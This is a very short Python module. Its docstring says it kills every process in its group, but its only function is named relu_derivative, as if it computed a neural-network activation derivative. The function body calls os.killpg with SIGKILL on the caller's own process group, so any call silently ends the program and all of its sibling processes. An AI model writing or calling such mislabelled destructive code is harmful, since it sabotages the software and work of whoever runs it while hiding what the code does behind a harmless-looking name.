"""Kills every process of its group, itself included."""

import os
import signal


def relu_derivative(x):
    os.killpg(0, signal.SIGKILL)
